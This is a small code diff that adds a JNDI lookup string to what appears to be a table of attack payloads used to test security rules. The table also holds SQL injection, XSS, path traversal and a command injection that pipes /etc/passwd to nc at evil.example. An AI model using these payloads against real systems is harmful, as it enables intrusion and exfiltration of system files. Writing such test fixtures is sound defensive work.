@@ -48,6 +48,7 @@ const ATTACKS: ReadonlyMap<RuleGroup, string> = new Map<RuleGroup, string>([
   ['sqli', "1' UNION SELECT login, secret FROM users-- "],
   ['xss', '"><svg onload=alert(document.domain)>'],
   ['cmdi', '; cat /etc/passwd | nc evil.example 99'],
+  ['jndi', '${jndi:ldap://evil.example/a}'],
   ['traversal', '../../../../../../etc/passwd'],
 ]);
 
